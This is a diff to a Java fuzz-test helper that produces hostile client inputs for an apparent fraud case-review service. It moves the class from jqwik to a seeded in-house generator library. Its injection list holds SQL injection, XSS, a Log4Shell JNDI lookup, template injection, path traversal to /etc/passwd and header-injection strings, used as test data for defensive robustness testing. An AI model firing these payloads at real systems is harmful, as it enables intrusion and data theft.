@@ -1,6 +1,6 @@
 package io.github.idfraud.testsupport.fuzz;
 
-import static net.jqwik.api.Tuple.of;
+import static io.github.idfraud.testsupport.fuzz.Gens.weighted;
 
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
@@ -9,14 +9,11 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
 
 /**
  * Generators of the values a careless or hostile client sends: blank, control-character, unicode, injection and
- * over-long strings, JSON values of the wrong type, and JSON that is not JSON. Built on jqwik's arbitraries, drawn
- * by the fuzz tests inside a seeded {@code JqwikSession}.
+ * over-long strings, JSON values of the wrong type, and JSON that is not JSON. Drawn by the fuzz tests from a seeded
+ * {@link java.util.Random}, so a run can be repeated.
  */
 public final class HostileInputs {
 
@@ -28,35 +25,35 @@ public final class HostileInputs {
     }
 
     /** Whitespace of every kind: ASCII, no-break, em and ideographic spaces, zero-width space, BOM. */
-    public static Arbitrary<String> blank() {
-        return Arbitraries.of("", " ", "   ", "\t", "\n", "\r\n", "\u00A0", "\u2003", "\u200B", "\u3000", "\uFEFF",
+    public static Gen<String> blank() {
+        return Gens.of("", " ", "   ", "\t", "\n", "\r\n", "\u00A0", "\u2003", "\u200B", "\u3000", "\uFEFF",
                 " \t\n ");
     }
 
     /** Text carrying C0/C1 control characters, NUL included, among letters. */
-    public static Arbitrary<String> controlCharacters() {
-        Arbitrary<Character> control = Arbitraries.frequencyOf(
-                of(3, Arbitraries.just('\u0000')),
-                of(5, Arbitraries.chars().range('\u0001', '\u001F')),
-                of(1, Arbitraries.just('\u007F')),
-                of(1, Arbitraries.chars().range('\u0080', '\u009F')));
-        Arbitrary<Character> letter = Arbitraries.chars().range('a', 'z');
-        return Arbitraries.frequencyOf(of(3, control), of(2, letter)).list().ofMinSize(1).ofMaxSize(12)
+    public static Gen<String> controlCharacters() {
+        Gen<Character> control = Gens.frequencyOf(
+                weighted(3, Gens.just('\u0000')),
+                weighted(5, Gens.chars('\u0001', '\u001F')),
+                weighted(1, Gens.just('\u007F')),
+                weighted(1, Gens.chars('\u0080', '\u009F')));
+        Gen<Character> letter = Gens.chars('a', 'z');
+        return Gens.frequencyOf(weighted(3, control), weighted(2, letter)).list(1, 12)
                 .map(HostileInputs::join).filter(text -> text.chars().anyMatch(c -> c < 0x20 || c >= 0x7F));
     }
 
     /** Unicode that trips naive code: astral emoji, RTL override, combining marks, lookalikes, lone surrogates. */
-    public static Arbitrary<String> unicode() {
-        Arbitrary<String> fixed = Arbitraries.of("\uD83D\uDE00\uD83D\uDCA9", "\u202Egnp.exe", "e\u0301\u0301\u0301",
+    public static Gen<String> unicode() {
+        Gen<String> fixed = Gens.of("\uD83D\uDE00\uD83D\uDCA9", "\u202Egnp.exe", "e\u0301\u0301\u0301",
                 "\u0399N_REVIEW", "\uFF29\uFF2E_REVIEW", "\uD800", "x\uDC00y", "\u200D\u200C\u2060", "\uFFFF\uFFFE",
                 "\u0130n_review", "\u00DF", "\uFDFD".repeat(20), "\u4E2D\u6587\u6D4B\u8BD5", "\u0661\u0662");
-        Arbitrary<String> any = Arbitraries.strings().all().ofMinLength(1).ofMaxLength(40);
-        return Arbitraries.frequencyOf(of(2, fixed), of(3, any));
+        Gen<String> any = Gens.strings(Gens.anyChar(), 1, 40);
+        return Gens.frequencyOf(weighted(2, fixed), weighted(3, any));
     }
 
     /** Strings aimed at SQL, templates, log formats, headers, paths and JSON parsers downstream. */
-    public static Arbitrary<String> injection() {
-        return Arbitraries.of("' OR '1'='1", "'; drop table case_note; --", "\" OR 1=1 --", "<script>alert(1)</script>",
+    public static Gen<String> injection() {
+        return Gens.of("' OR '1'='1", "'; drop table case_note; --", "\" OR 1=1 --", "<script>alert(1)</script>",
                 "<img src=x onerror=alert(1)>", "${jndi:ldap://fuzz.invalid/a}", "{{7*7}}", "{#include x /}",
                 "{inject:csrf.token}", "%s%s%n%x", "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd",
                 "\r\nSet-Cookie: fuzz=1", "\"}],\"to\":\"DISMISSED", "\\", "null", "undefined", "NaN", "-1",
@@ -65,47 +62,47 @@ public final class HostileInputs {
     }
 
     /** Text from {@code min} to {@code max} characters (ASCII or not). */
-    public static Arbitrary<String> longText(int min, int max) {
-        Arbitrary<Character> unit = Arbitraries.of('x', 'é', '\u4E2D', ' ');
-        return Arbitraries.integers().between(min, max).flatMap(length ->
+    public static Gen<String> longText(int min, int max) {
+        Gen<Character> unit = Gens.of('x', 'é', '\u4E2D', ' ');
+        return Gens.integers(min, max).flatMap(length ->
                 unit.map(c -> String.valueOf(c).repeat(length)));
     }
 
     /** Any hostile string, short or at most {@code maxLong} characters long. */
-    public static Arbitrary<String> text(int maxLong) {
-        return Arbitraries.frequencyOf(
-                of(2, blank()),
-                of(3, controlCharacters()),
-                of(3, unicode()),
-                of(3, injection()),
-                of(1, longText(1, maxLong)),
-                of(2, Arbitraries.strings().ofMaxLength(20)));
+    public static Gen<String> text(int maxLong) {
+        return Gens.frequencyOf(
+                weighted(2, blank()),
+                weighted(3, controlCharacters()),
+                weighted(3, unicode()),
+                weighted(3, injection()),
+                weighted(1, longText(1, maxLong)),
+                weighted(2, Gens.strings(Gens.anyChar(), 0, 20)));
     }
 
     /** A UUID from the seeded source, so a run can be repeated. */
-    public static Arbitrary<UUID> randomUuid() {
-        return Combinators.combine(Arbitraries.longs(), Arbitraries.longs()).as(UUID::new);
+    public static Gen<UUID> randomUuid() {
+        return Gens.zip(Gens.longs(), Gens.longs(), UUID::new);
     }
 
     /** A JSON value of the wrong type for a string field, or a literal no field accepts. */
-    public static Arbitrary<Object> wrongJsonType() {
-        return Arbitraries.of(0, -1, 3, 1.5, Long.MAX_VALUE, true, false, List.of(), List.of("x"), Map.of(),
+    public static Gen<Object> wrongJsonType() {
+        return Gens.of(0, -1, 3, 1.5, Long.MAX_VALUE, true, false, List.of(), List.of("x"), Map.of(),
                 Map.of("x", 1), new RawJson("1e400"), new RawJson("-0"), new RawJson("123456789012345678901234567890"));
     }
 
     /** Bodies that are not a JSON object of the expected shape: other top-level types and broken JSON. */
-    public static Arbitrary<String> brokenJson() {
-        return Arbitraries.frequencyOf(
-                of(3, Arbitraries.of("null", "[]", "[{}]", "\"text\"", "0", "true", "{}", "{\"\":\"\"}")),
-                of(4, Arbitraries.of("{", "}", "{\"text\"", "{\"text\":", "{\"text\":\"x\"", "{'text':'x'}",
+    public static Gen<String> brokenJson() {
+        return Gens.frequencyOf(
+                weighted(3, Gens.of("null", "[]", "[{}]", "\"text\"", "0", "true", "{}", "{\"\":\"\"}")),
+                weighted(4, Gens.of("{", "}", "{\"text\"", "{\"text\":", "{\"text\":\"x\"", "{'text':'x'}",
                         "{text:\"x\"}", "{\"text\":\"x\",}", "{\"text\":\"x\"} trailing", "{\"text\":NaN}",
                         "{\"text\": alert1}", "{\"text\":\"x\" /* c */}", "\u0000", "\uFEFF{\"text\":\"x\"}",
                         "{\"text\":\"raw\u0001control\"}", "{\"text\":\"\\uZZZZ\"}", "{\"text\":\"\\x41\"}",
                         "{\"to\":\"IN_REVIEW\",\"to\":1}")),
-                of(1, Arbitraries.integers().between(600, 3_000).map(depth -> "[".repeat(depth) + "]".repeat(depth))),
-                of(1, Arbitraries.integers().between(600, 3_000).map(depth ->
+                weighted(1, Gens.integers(600, 3_000).map(depth -> "[".repeat(depth) + "]".repeat(depth))),
+                weighted(1, Gens.integers(600, 3_000).map(depth ->
                         "{\"a\":".repeat(depth) + "1" + "}".repeat(depth))),
-                of(1, text(200)));
+                weighted(1, text(200)));
     }
 
     /** A JSON object with the fields in order; values may be {@link RawJson}, nested maps and lists. */
